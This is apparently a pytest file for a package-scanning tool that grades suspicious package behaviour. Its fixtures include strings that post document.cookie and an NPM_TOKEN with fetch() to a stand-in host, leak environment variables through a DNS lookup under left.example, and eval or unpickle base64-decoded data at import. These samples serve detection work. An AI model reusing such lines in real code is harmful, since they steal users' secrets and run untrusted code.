"""What honest packages do that looks like a sign of malice: the honest form beside the one that is told."""

from __future__ import annotations

import pytest

from fimci import readers, sides
from fimci.capabilities.gains import Gain
from fimci.capabilities.grading import chain_grade
from fimci.findings import Severity
from fimci.look import take
from fimci.model import Capability, Change, Phase, Place, Record, Setting
from fimci.reach import settled
from fimci.snapshot import Entry

LOW, MEDIUM, HIGH = Severity.LOW, Severity.MEDIUM, Severity.HIGH
METADATA = {"PKG-INFO": "Metadata-Version: 2.1\nName: left\nVersion: 1.0.0\n"}


def entry(path: str, text: str) -> Entry:
    return Entry(path=path, read=lambda: iter([text.encode()]))


def records(files: dict[str, str], *, released: bool = False) -> list[Record]:
    entries = [entry(path, text) for path, text in sorted(files.items())]
    found: list[Record] = take(entries, sides.recipe(code=True), readers.ALL)
    return list(settled(found, project=False, released=released))


def chains(files: dict[str, str], name: str) -> list[Capability]:
    return [one for one in records(files) if isinstance(one, Capability) and one.name == name]


def graded(one: Capability, *, known: bool) -> Severity | None:
    change = Change(before=None, after=one)
    return chain_grade(Gain(change, one, first=True, known=known, bump="patch" if known else "other"))


@pytest.mark.parametrize(
    ("load", "told"),
    [
        ("def load(text):\n    return pickle.loads(plain(text))\n", False),
        ("STATE = pickle.loads(plain(TEXT))\n", True),
        ("def load(text):\n    return eval(plain(text))\n", True),
    ],
    ids=["a serialiser", "when it is imported", "no objects but code"],
)
def test_what_is_stored_in_letters_is_read_when_somebody_asks(load: str, *, told: bool) -> None:
    files = {
        **METADATA,
        "left/__init__.py": "from left import store\n",
        "left/forms.py": "import base64\n\ndef plain(text):\n    return base64.b64decode(text)\n",
        "left/store.py": f"import pickle\nfrom left.forms import plain\nTEXT = open('state').read()\n{load}",
    }
    assert bool(chains(files, "encoded-payload")) == told


@pytest.mark.parametrize(
    ("phase", "subject", "known", "grade"),
    [
        ("call", "secret -> *", False, LOW),
        ("call", "secret -> *", True, MEDIUM),
        ("call", "secret -> left.example", False, HIGH),
        ("import", "secret -> *", False, HIGH),
    ],
)
def test_a_client_that_is_new_sends_what_it_is_given_to_whom_it_is_told(
    phase: Phase, subject: str, *, known: bool, grade: Severity
) -> None:
    one = Capability(
        path="a.js",
        name="exfiltration",
        subject=subject,
        phase=phase,
        package="pkg:npm/left",
        at=Place("a.js"),
    )
    assert graded(one, known=known) == grade


@pytest.mark.parametrize(
    ("text", "grades"),
    [
        ("fetch(address, { body: document.cookie });", (LOW, MEDIUM)),
        ("fetch('https://left.example/', { body: document.cookie });", (HIGH, HIGH)),
        ("fetch(address, { body: process.env.NPM_TOKEN + document.cookie });", (HIGH, HIGH)),
    ],
    ids=["to its own host", "to another one", "not of the page alone"],
)
def test_a_page_sends_back_what_it_keeps(text: str, grades: tuple[Severity, Severity]) -> None:
    (one,) = chains(
        {"package.json": '{"name": "left", "version": "1.0.0"}', "index.js": text}, "exfiltration"
    )
    assert (graded(one, known=False), graded(one, known=True)) == grades


@pytest.mark.parametrize(
    ("asked", "told"),
    [
        ("os.environ['LEFT_HOST']", False),
        ("dict(os.environ)['LEFT_HOST']", False),
        ("f'{dict(os.environ)}.left.example'", True),
    ],
)
def test_an_address_that_is_configured_is_looked_up(asked: str, *, told: bool) -> None:
    files = {"a.py": f"import os, socket\nsocket.gethostbyname({asked})\n"}
    assert bool(chains(files, "exfiltration")) == told


def test_a_package_is_no_checkout_in_which_git_runs_hooks() -> None:
    files = {"package.json": '{"name": "left", "version": "1.0.0"}', ".husky/pre-commit": "helper --all\n"}
    hooks = [one for one in records(files) if isinstance(one, Setting) and one.path.startswith(".husky")]
    assert hooks
    assert not [one for one in records(files, released=True) if isinstance(one, Setting)]
